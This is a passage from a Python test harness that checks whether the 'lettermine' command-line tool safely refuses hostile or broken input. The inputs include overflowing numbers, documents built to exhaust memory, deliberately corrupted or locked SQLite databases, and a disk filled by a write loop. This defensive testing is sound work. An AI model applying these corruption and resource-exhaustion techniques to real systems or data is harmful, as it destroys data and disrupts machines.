               folder=folder, refused=True, check=clean)  # fmt: skip
    return row


NUMBER_CASES = ["99999999999999999999", "-99999999999999999999", "9223372036854775808", "nan",
                "inf", "-inf", "1e400", "1e308", "0x10", "12abc"]  # fmt: skip


def class_3_numbers(work: Path) -> HostileRow:
    """Ids, counts, percent, measures and values that are not numbers lettermine can use."""
    row = HostileRow("3 numbers that are not numbers")
    folder = work / "c3"
    db = _hostile_db(folder, "numbers", LETTER_TEXT)
    run_measured(lettermine("actions", "add", "--for", "1:1", "--title", "Plans", "--due",
                            "2022-03-31", "--date", "2021-07-01", db=db))  # fmt: skip
    run_measured(lettermine("actions", "measure", "1", "--name", "Caseload", "--baseline", "31",
                            "--target", "25", "--date", "2021-07-02", db=db))  # fmt: skip
    templates = [["show", "{}"], ["actions", "show", "{}"], ["search", "plans", "--limit", "{}"],
                 ["actions", "list", "--due-within", "{}"], ["actions", "list", "--letter", "{}"],
                 ["plan", "--letter", "{}", "-o", str(folder / "p.docx")],
                 ["actions", "update", "1", "--percent", "{}"],
                 ["actions", "update", "1", "--value", "{}"],
                 ["actions", "measure", "1", "--name", "m", "--baseline", "{}", "--target", "1"],
                 ["actions", "coverage", "--letter", "{}"], ["explain", "{}:1"],
                 ["actions", "link", "1", "1:{}"]]  # fmt: skip
    for template in templates:
        for bad in NUMBER_CASES:
            args = [a.replace("{}", bad) for a in template]
            _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=True)
    # A CSV units cell and percent cells that are not numbers.
    for name, cell, percent in (
        ("units.csv", "99999999999999999999:1", "10"),
        ("percent.csv", "1:1", "nan"),
        ("inf.csv", "1:1", "1e400"),
    ):
        path = folder / name
        path.write_text(f"title,owner,status,percent,due,units\nA,B,in progress,{percent},"
                        f"2022-01-01,{cell}\n", encoding="utf-8")  # fmt: skip
        _probe(row, lettermine("actions", "import", str(path), db=db), db=db, folder=folder,
               refused=True)  # fmt: skip
    # JSON never says Infinity, even of a value stored before values were checked.
    conn = sqlite3.connect(db)
    conn.execute("UPDATE action_measures SET latest = 9e999")
    conn.commit()
    conn.close()
    _probe(
        row,
        lettermine("actions", "export", "--json", db=db),
        db=db,
        folder=folder,
        refused=False,
        check=lambda r: "Infinity" not in r.stdout and "NaN" not in r.stdout,
    )
    return row


def class_6_exhausting_documents(work: Path) -> HostileRow:
    """Small files built to take gigabytes or for ever: refused in a moment, within 500 MB."""
    row = HostileRow("6 documents built to exhaust the machine")
    folder = work / "c6"
    db = _hostile_db(folder, "documents", LETTER_TEXT)
    docs = folder / "docs"
    docs.mkdir()
    harmless = {"count-lie.pdf", "recursive-form.pdf"}  # the letter, read as it is
    for _what, name, make in HOSTILE_DOCUMENTS:
        path = docs / name
        path.write_bytes(make())
        _probe(row, lettermine("ingest", "--no-classify", str(path), db=db), db=db,
               folder=folder, refused=None if name in harmless else True, words=(name,),
               unchanged=name not in harmless)  # fmt: skip
        path.unlink()
    # A batch of them with a good letter among them: the good one stored, the batch finished.
    for _what, name, make in HOSTILE_DOCUMENTS:
        if name not in harmless:
            (docs / name).write_bytes(make())
    shutil.copy(GOOD_PDF, docs / GOOD_PDF.name)
    refused = sorted(p.name for p in docs.iterdir() if p.name != GOOD_PDF.name)

    def each_named(run: HRun) -> bool:
        errors = [x for x in run.stderr.splitlines() if x.startswith("Error: ")]
        named = sorted(x.split(":")[1].strip() for x in errors)
        return f"{GOOD_PDF.name}: letter" in run.stderr and named == refused

    _probe(row, lettermine("ingest", "--no-classify", str(docs), db=db), db=db, folder=folder,
           refused=None, check=each_named, unchanged=False)  # fmt: skip
    row.note = f"bounds: {MAX_PAGES} pages, {MAX_INFLATED // 2**20} MB inflated, " + (
        f"{MAX_CHARS:,} characters, {MAX_SECONDS:g} s, {MAX_MEMORY // 2**20} MB more memory"
    )
    return row


def _mount(kind: str, target: Path, source: Path | None = None) -> bool:
    """A read-only bind mount of source, or a 2 MB tmpfs: False where mounting is not allowed."""
    target.mkdir(parents=True, exist_ok=True)
    if kind == "tmpfs":
        cmd = [["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(target)]]
    else:
        cmd = [["mount", "--bind", str(source), str(target)],
               ["mount", "-o", "remount,ro,bind", str(target)]]  # fmt: skip
    for c in cmd:
        if subprocess.run(c, capture_output=True).returncode != 0:
            subprocess.run(["umount", str(target)], capture_output=True)
            return False
    return True


def class_7_database_neighbours(work: Path) -> HostileRow:
    """Databases that are not lettermine's, missing, newer, read-only, full, locked, damaged."""
    row = HostileRow("7 the database and its neighbours")
    folder = work / "c7"
    good = _hostile_db(folder, "good", LETTER_TEXT)
    run_measured(lettermine("actions", "add", "--for", "1:1", "--title", "Plans", "--date",
                            "2021-07-01", db=good))  # fmt: skip
    reads = [["letters"], ["show", "1"], ["search", "plans"], ["actions", "list"], ["db", "status"],
             ["export"]]  # fmt: skip
    writes = [["ingest", "--no-classify", str(GOOD_TXT)], ["actions", "update", "1", "--percent",
              "5", "--date", "2021-08-01"]]  # fmt: skip
    # Another application's SQLite file: refused and left byte for byte as it was.
    foreign = folder / "notes.sqlite"
    conn = sqlite3.connect(foreign)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
    conn.execute("INSERT INTO notes (body) VALUES ('mine')")
    conn.commit()
    conn.close()
    for args in [*reads, *writes]:
        _probe(row, lettermine(*args, db=foreign), db=None, folder=folder, refused=True,
               words=("not a lettermine database",))  # fmt: skip
    # A missing database: read commands do not create it.
    missing = folder / "missing.db"
    for args in reads:
        _probe(row, lettermine(*args, db=missing), db=None, folder=folder, refused=True,
               words=("no database at",))  # fmt: skip
    # A database a newer lettermine made.
    newer = folder / "newer.db"
    shutil.copy(good, newer)
    conn = sqlite3.connect(newer)
    conn.execute("INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
                 "VALUES ('lettermine', 'm099_future', '2030-01-01')")  # fmt: skip
    conn.execute("PRAGMA user_version = 99")
    conn.commit()
    conn.close()
    for args in [*reads[:2], *writes]:
        _probe(row, lettermine(*args, db=newer), db=newer, folder=folder, refused=True,
               words=("made by a newer lettermine",))  # fmt: skip
    # A document written over the database.
    doc_db = folder / "plan.docx"
    shutil.copy(good, doc_db)
    _probe(row, lettermine("plan", "--letter", "1", "-o", str(doc_db), db=doc_db), db=doc_db,
           folder=folder, refused=True, words=("is a SQLite database",))  # fmt: skip
    # A lock held longer than the busy timeout (1 s here).
    env = {**os.environ, "LETTERMINE_BUSY_TIMEOUT": "1"}
    holder = sqlite3.connect(good, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    holder.execute("UPDATE letters SET source = source")
    for args in writes:
        _probe(row, lettermine(*args, db=good), db=good, folder=folder, refused=True,
               words=("in use by another process",), env=env)  # fmt: skip
    _probe(row, lettermine(*reads[0], db=good), db=good, folder=folder, refused=False, env=env)
    holder.execute("ROLLBACK")
    holder.close()
    # A damaged database: the integrity check fails; a backup of it leaves no file.
    damaged = folder / "damaged.db"
    shutil.copy(good, damaged)
    conn = sqlite3.connect(damaged)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    size = conn.execute("PRAGMA page_size").fetchone()[0]
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'units'").fetchone()[0]
    conn.close()
    data = bytearray(damaged.read_bytes())
    data[(root - 1) * size : (root - 1) * size + 8] = b"\xff" * 8
    damaged.write_bytes(bytes(data))
    for args in (["db", "status"], ["show", "1"], ["db", "backup", str(folder / "copy.db")]):
        _probe(row, lettermine(*args, db=damaged), db=damaged, folder=folder, refused=True,
               words=("restore it from a backup",))  # fmt: skip
    notes = []
    # A read-only folder (a read-only bind mount: root writes whatever the permissions say).
    source, ro = folder / "rw", folder / "ro"
    source.mkdir()
    shutil.copy(good, source / "ro.db")
    if _mount("ro", ro, source):
        try:
            for args in [*reads[:2], *writes]:
                _probe(row, lettermine(*args, db=ro / "ro.db"), db=ro / "ro.db", folder=folder,
                       refused=True, words=("read",))  # fmt: skip
        finally:
            subprocess.run(["umount", str(ro)], capture_output=True)
    else:
        notes.append("read-only folder: skipped (mounting needs root)")
    # A full disk (a 2 MB tmpfs, filled).
    full = folder / "full"
    if _mount("tmpfs", full):
        try:
            shutil.copy(good, full / "full.db")
            run_measured(lettermine("letters", db=full / "full.db"))  # its -wal and -shm made
            filler = os.open(full / "filler", os.O_WRONLY | os.O_CREAT)
            try:
                while True:
                    os.write(filler, b"\0" * 4096)
            except OSError:
                pass  # the disk is full
            finally:
                os.close(filler)
            for args in (["ingest", "--no-classify", str(ROOT / "letters")],
                         ["actions", "update", "1", "--note", "x" * 5000, "--date", "2021-09-01"],
                         ["db", "backup", str(full / "b.db")]):  # fmt: skip
                _probe(row, lettermine(*args, db=full / "full.db"), db=full / "full.db",
                       folder=folder, refused=True, words=("full",))  # fmt: skip
        finally:
            subprocess.run(["umount", str(full)], capture_output=True)
    else:
        notes.append("full disk: skipped (mounting needs root)")
    row.note = "; ".join(notes)
    return row


def class_8_history(work: Path) -> HostileRow:
    """Dates far in the future refused; a mistaken entry corrected by another entry."""
    row = HostileRow("8 history that cannot be corrected")
    folder = work / "c8"
    db = _hostile_db(folder, "history", LETTER_TEXT)
    run_measured(lettermine("actions", "add", "--for", "1:1", "--title", "Plans", "--due",
                            "2022-03-31", "--date", "2021-07-01", db=db))  # fmt: skip
    future = [["actions", "update", "1", "--percent", "40", "--date", "2999-11-30"],
              ["actions", "status", "1", "done", "--date", "2999-01-01"],
              ["actions", "add", "--title", "x", "--date", "3000-01-01"],
              ["actions", "add", "--title", "x", "--due", "2999-03-31", "--date", "2021-07-01"],
              ["actions", "due", "1", "2205-01-01", "--reason", "typo", "--date", "2021-08-01"],
              ["actions", "rag", "1", "--override", "red", "--reason", "x", "--date",
               "9999-12-31"]]  # fmt: skip
    for args in future:
        _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=True,
               words=("check the",))  # fmt: skip
    tracker = folder / "future.csv"
    tracker.write_text("title,owner,status,percent,due,units,date\nA,B,done,100,2022-01-01,1:1,"
                       "2999-01-01\n", encoding="utf-8")  # fmt: skip
    _probe(row, lettermine("actions", "import", str(tracker), db=db), db=db, folder=folder,
           refused=True, words=("in the future",))  # fmt: skip
    # An entry dated 2999 as older versions let through: corrected, and the action moves again.
    conn = sqlite3.connect(db)
    wrong = conn.execute(
        "INSERT INTO action_history (action_id, event, at, recorded_at, percent, status) "
        "VALUES (1, 'update', '2999-11-30', '2021-11-30T10:00:00', 40, 'in_progress')"
    ).lastrowid
    conn.execute("UPDATE actions SET percent = 40, status = 'in_progress' WHERE id = 1")
    conn.commit()
    conn.close()
    _probe(row, lettermine("actions", "update", "1", "--percent", "50", "--date", "2021-12-01",
                           db=db), db=db, folder=folder, refused=True,
           words=("last recorded change",))  # fmt: skip
    _probe(row, lettermine("actions", "correct", "1", str(wrong), "--date", "2021-11-30",
                           "--reason", "typed 2999", db=db), db=db, folder=folder, refused=False,
           unchanged=False)  # fmt: skip
    _probe(
        row,
        lettermine("actions", "update", "1", "--percent", "50", "--date", "2021-12-01", db=db),
        db=db,
        folder=folder,
        refused=False,
        unchanged=False,
    )
    refusals = [(["actions", "correct", "1", str(wrong), "--withdraw", "--reason", "x"],
                 "already superseded"),
                (["actions", "correct", "1", "2", "--withdraw", "--reason", "x"], "unlink"),
                (["actions", "correct", "1", "999", "--percent", "5", "--reason", "x"],
                 "no history entry"),
                (["actions", "correct", "1", str(wrong + 2), "--percent", "500", "--reason", "x"],
                 "between 0 and 100"),
                (["actions", "correct", "1", str(wrong + 2), "--date", "2999-01-01", "--reason",
                  "x"], "in the future")]  # fmt: skip
    for args, words in refusals:
        _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=True, words=(words,))

    def state_is(percent: int) -> Callable[[HRun], bool]:
        return lambda r: json.loads(r.stdout)["percent"] == percent

    _probe(row, lettermine("actions", "correct", "1", str(wrong + 2), "--withdraw", "--reason",
                           "wrong action", db=db), db=db, folder=folder, refused=False,
           unchanged=False)  # fmt: skip
    _probe(row, lettermine("actions", "show", "1", "--json", db=db), db=db, folder=folder,
           refused=False, check=state_is(40))  # fmt: skip
    return row


def class_9_trackers(work: Path) -> HostileRow:
    """Tracker CSVs as spreadsheets save them: read, or refused naming the file and row."""
    row = HostileRow("9 tracker import of what spreadsheets produce")
    folder = work / "c9"
    for i, (_what, name, data, created) in enumerate(trackers()):
        db = _hostile_db(folder, f"t{i}", LETTER_TEXT)
        path = folder / name
        path.write_bytes(data)

        def made(run: HRun, db: Path = db, created: int = created) -> bool:
            count = sqlite3.connect(db).execute("SELECT count(*) FROM actions").fetchone()[0]
            return bool(count == max(created, 0))

        _probe(row, lettermine("actions", "import", str(path), db=db), db=db, folder=folder,
               refused=created < 0, words=(name,), check=made,
               unchanged=created < 0)  # fmt: skip
    return row


def class_10_models(work: Path) -> HostileRow:
    """--model pointing at a damaged copy of the shipped pipeline: one line, nothing stored."""
    row = HostileRow("10 a corrupt model folder")
    folder = work / "c10"
    template = _hostile_db(folder, "template", LETTER_TEXT)
    for i, (_what, model) in enumerate(broken_models(folder / "models")):
        db = folder / "models.db"
        for old in folder.glob("models.db*"):
            old.unlink()
        shutil.copy(template, db)  # GOOD_PDF is new to it: ingest needs the model
        args = ["classify", "--model", str(model)] if i % 3 == 2 else [
            "ingest", str(GOOD_PDF), "--model", str(model)]  # fmt: skip
        _probe(row, lettermine(*args, db=db), db=db, folder=folder, refused=True,
               words=("model",))  # fmt: skip
    return row


HOSTILE_CLASSES: dict[str, Callable[[Path], HostileRow]] = {
    "formulas": class_1_formula_injection,
    "escapes": class_2_terminal_escapes,
    "numbers": class_3_numbers,
    "documents": class_6_exhausting_documents,
    "database": class_7_database_neighbours,
    "history": class_8_history,
    "trackers": class_9_trackers,
    "models": class_10_models,
}
HOSTILE_COLUMNS = ("tried", "clear", "crashes", "hangs", "peak RSS MB", "rows changed",
                   "other files changed")  # fmt: skip


def print_hostile_table(rows: list[HostileRow]) -> None:
    width = max(len(r.fault) for r in rows)
    print(f"{'class':<{width}}  " + "  ".join(f"{c:>12}" for c in HOSTILE_COLUMNS))
    for r in rows:
        cells = (r.tried, r.clear, r.crashes, r.hangs, f"{r.peak_mb:.0f}", r.changed,
                 r.other_files)  # fmt: skip
        print(f"{r.fault:<{width}}  " + "  ".join(f"{c:>12}" for c in cells))


COLUMNS = ("tried", "clear errors", "no-op", "stored", "partial", "crashes", "rows changed")


def print_table(rows: list[Row]) -> None:
    width = max(len(r.fault) for r in rows)
    print(f"{'fault':<{width}}  " + "  ".join(f"{c:>12}" for c in COLUMNS))
    for r in rows:
        cells = (r.tried, r.clear, r.noop, r.stored, r.partial, r.crashes, r.changed)
        print(f"{r.fault:<{width}}  " + "  ".join(f"{c:>12}" for c in cells))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--fuzz", type=int, default=500, help="mutated PDFs to read")
    parser.add_argument("--kills", type=int, default=5, help="SIGKILLs during one batch")
    parser.add_argument("--seed", type=int, default=0, help="seed for the mutations")
    parser.add_argument(
        "--only", nargs="+", choices=("names", "special", *HOSTILE_CLASSES), metavar="CLASS",
        help="run only these classes: names (not UTF-8), special (not files, not readable), "
        f"and the hostile input of #17: {', '.join(HOSTILE_CLASSES)}",
    )  # fmt: skip
    args = parser.parse_args()

    wanted = [k for k in HOSTILE_CLASSES if not args.only or k in args.only]
    theirs = not args.only or bool({"names", "special"} & set(args.only))
    rows: list[Row] = []
    hostile_bad = 0
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        if theirs:
            rows = faults_table(work, args)
        if wanted:
            print()
            hostile_bad = hostile_main(work, wanted)
    bad = sum(r.crashes + r.changed for r in rows)
    return 1 if bad or hostile_bad else 0


def faults_table(work: Path, args: argparse.Namespace) -> list[Row]:
    """The first table: bad files, fuzzing, interruption, concurrency, names, special files."""
    db = work / "faults.db"
    run = _run("ingest", "--no-classify", str(GOOD_TXT), db=db)
    if run.returncode != 0:
        raise SystemExit(f"cannot ingest the sample letter: {run.stderr}")
    start = time.perf_counter()
    rows: list[Row] = []
    notes: list[str] = []
    if not args.only:
        rows = bad_input_rows(work, db)
        rows.append(duplicate_row(work, db))
        rows.append(mixed_folder_row(work))
        fuzzed, notes = fuzz_rows(work, args.fuzz, args.seed)
        rows += fuzzed
        killed = interruption_row(work, args.kills)
        if killed is None:
            notes.append("SIGKILL during ingest: skipped (../shared/corpus is absent)")
        else:
            rows.append(killed)
        rows.append(concurrency_row(work))
    for name, make in (("names", non_utf8_name_rows), ("special", special_file_rows)):
        if not args.only or name in args.only:
            made, more = make(work)
            rows += made
            notes += more
    print_table(rows)
    print()
    for r in rows:
        if r.note:
            print(f"{r.fault}: {r.note}")
    for note in notes:
        print(note)
    print(f"{time.perf_counter() - start:.0f} s")
    return rows


def hostile_main(work: Path, classes: list[str]) -> int:
    """Run the hostile classes, print their table; 1 if any crashed, hung, went over 500 MB or
    changed what it should not."""
    rows = []
    start = time.perf_counter()
    for key in classes:
        began = time.perf_counter()
        row = HOSTILE_CLASSES[key](work)
        row.note = "; ".join(x for x in (row.note, f"{time.perf_counter() - began:.0f} s") if x)
        rows.append(row)
    print("Hostile and unlucky input (#17)")
    print_hostile_table(rows)
    print()
    for r in rows:
        print(f"{r.fault}: {r.note}")
        for problem in r.problems[:10]:
            print(f"    not clear: {problem}")
    print(f"{time.perf_counter() - start:.0f} s; peak RSS of any case "
          f"{max(r.peak_mb for r in rows):.0f} MB (bound 500)")  # fmt: skip
    bad = sum(r.crashes + r.hangs + r.changed + r.other_files for r in rows)
    return 1 if bad or any(r.peak_mb > 500 for r in rows) else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except LettermineError as e:
        sys.exit(f"Error: {e}")
